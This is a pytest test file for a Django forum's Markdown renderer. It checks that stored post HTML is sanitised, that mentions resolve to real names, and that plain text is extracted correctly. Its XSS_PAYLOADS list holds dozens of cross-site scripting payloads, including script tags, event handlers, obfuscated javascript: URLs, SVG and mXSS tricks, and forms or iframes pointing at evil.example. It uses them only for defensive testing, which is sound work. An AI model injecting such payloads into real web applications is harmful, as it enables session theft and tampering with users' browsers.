"""Markdown rendering and sanitisation: what is stored as body_html is safe to show."""

import re
from html.parser import HTMLParser

import pytest

from dialogues import services
from dialogues.rendering import mention_markup, render_markdown
from tests.dialogues.factories import ThreadFactory

# Payloads that must never produce executable HTML, whatever the parser does with them.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">raw link</a>',
    '<a href="&#106;avascript:alert(1)">entity link</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0">overlay</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<style>body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<img src=x onerror=alert(1)//<",
    '<img """><script>alert(1)</script>">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '<base href="https://evil.example/">',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
]

SAFE_TAGS = {
    *"p br hr h3 h4 h5 h6 strong em s del code pre blockquote ul ol li a span".split(),
    *"table thead tbody tr th td".split(),
}
SAFE_ATTRIBUTES = {"href", "title", "rel", "class", "start"}


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html):
    """Parse the stored HTML as a browser would and check every element and attribute."""
    assert not re.search(r"<\s*/?\s*(script|style|iframe|svg|img)", html, re.I), html
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attributes in parser.tags:
        assert tag in SAFE_TAGS, f"<{tag}> in {html!r}"
        assert set(attributes) <= SAFE_ATTRIBUTES, f"{attributes} in {html!r}"
        href = attributes.get("href")
        if href is not None:
            assert re.match(r"(https?:|mailto:|/|#)", href), f"href={href!r} in {html!r}"
        if tag == "a":
            assert attributes.get("rel") == "nofollow noopener ugc"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_known_xss_payloads_render_harmless(payload):
    assert_harmless(render_markdown(payload).html)
    assert_harmless(render_markdown(f"Some text\n\n{payload}\n\nmore *text*").html)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS[:12] + XSS_PAYLOADS[17:22])
def test_stored_post_html_is_harmless(payload, member):
    thread = ThreadFactory(author=member, body=f"Context first.\n\n{payload}")
    post = thread.posts.get(number=1)
    assert_harmless(post.body_html)


def test_markdown_features_survive_sanitising():
    html = render_markdown(
        "# Results\n\n**bold** *em* ~~old~~ `code`\n\n"
        "> quoted\n\n- one\n- two\n\n3. three\n\n"
        "| Year | SMEs |\n|---|--:|\n| 2024 | 221 |\n\n"
        "[programme](https://example.eu/programme) <https://example.eu>\n\n```\nx = 1\n```"
    ).html
    assert "<h3>Results</h3>" in html  # headings sit below the page's own
    for fragment in [
        "<strong>bold</strong>",
        "<em>em</em>",
        "<s>old</s>",
        "<code>code</code>",
        "<blockquote>",
        "<li>one</li>",
        '<ol start="3">',
        "<th>Year</th>",
        "<td>221</td>",
        "<pre><code>x = 1",
        '<a href="https://example.eu/programme" rel="nofollow noopener ugc">programme</a>',
    ]:
        assert fragment in html
    assert "text-align" not in html


def test_raw_html_shows_as_text():
    rendered = render_markdown("Use <b>bold</b> & <i>friends</i>")
    assert "&lt;b&gt;bold&lt;/b&gt;" in rendered.html
    assert rendered.text == "Use <b>bold</b> & <i>friends</i>"


def test_images_become_plain_links():
    html = render_markdown("![chart](https://example.eu/chart.png)").html
    assert "<img" not in html
    assert '<a href="https://example.eu/chart.png" rel="nofollow noopener ugc">chart</a>' in html


def test_empty_detection():
    assert render_markdown("   \n\n\u200b ").is_empty
    assert render_markdown("---").is_empty
    assert not render_markdown("ok").is_empty


@pytest.mark.django_db
def test_mentions_show_the_real_name_and_link_to_the_person(member, other_member):
    markup = f"Thanks @[Someone Else](user:{other_member.pk}) and @[Ghost](user:999999)"
    rendered = render_markdown(markup, resolve_mentions=lambda ids: [other_member])
    organisation = other_member.representative.organisation
    assert (
        f'<a class="mention" href="/members/{organisation.slug}/#person-{other_member.pk}" '
        f'rel="nofollow noopener ugc">@Oskar Other</a>'
    ) in rendered.html
    assert "Someone Else" not in rendered.html  # the label typed cannot impersonate
    assert "@Ghost" in rendered.html and "user:999999" not in rendered.html
    assert rendered.text == "Thanks @Oskar Other and @Ghost"
    assert mention_markup(other_member) == f"@[Oskar Other](user:{other_member.pk})"


def test_mentions_in_code_are_not_mentions():
    rendered = render_markdown("`@[A](user:1)`", resolve_mentions=lambda ids: pytest.fail())
    assert "<code>@[A](user:1)</code>" in rendered.html


@pytest.mark.django_db
def test_a_mention_of_the_secretariat_is_a_span(secretariat_user, member, topic):
    thread = ThreadFactory(
        topic=topic, author=member, body=f"Asking {mention_markup(secretariat_user)}"
    )
    html = thread.posts.get().body_html
    assert '<span class="mention">@Sophie Secretariat</span>' in html


@pytest.mark.django_db
def test_post_body_text_is_plain(member, topic):
    thread = ThreadFactory(topic=topic, author=member, body="## Aims\n\n*Grow* the **cluster**.")
    post = services.post_create(thread=thread, author=member, body="A [link](https://x.eu).")
    assert thread.posts.get(number=1).body_text == "Aims\nGrow the cluster."
    assert post.body_text == "A link."


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<p onclick="x()">a</p>',
        '<a href="javascript:alert(1)" rel="nofollow noopener ugc">a</a>',
        '<a href="data:text/html,x" rel="nofollow noopener ugc">a</a>',
        '<p style="color:red">a</p>',
        "<iframe></iframe>",
    ],
)
def test_the_harmlessness_check_catches_executable_html(html):
    with pytest.raises(AssertionError):
        assert_harmless(html)
